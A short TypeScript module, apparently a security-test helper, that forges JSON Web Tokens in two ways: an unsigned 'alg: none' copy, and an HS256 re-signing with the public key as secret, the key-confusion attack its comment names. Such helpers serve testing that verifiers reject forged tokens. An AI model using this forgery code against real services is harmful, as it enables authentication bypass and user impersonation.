import { decodeJwt, decodeProtectedHeader, SignJWT } from "jose";

const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");

/** The same claims, unsigned: `alg: none`. */
export function unsignedCopy(token: string): string {
  const header = { ...decodeProtectedHeader(token), alg: "none" };
  return `${base64url(header)}.${base64url(decodeJwt(token))}.`;
}

/** The same claims signed HS256 with the public key as the HMAC secret: the classic key-confusion attack. */
export function hmacWithPublicKey(token: string, publicKeyPem: string): Promise<string> {
  const header = { ...decodeProtectedHeader(token), alg: "HS256" };
  return new SignJWT(decodeJwt(token))
    .setProtectedHeader(header)
    .sign(new TextEncoder().encode(publicKeyPem));
}
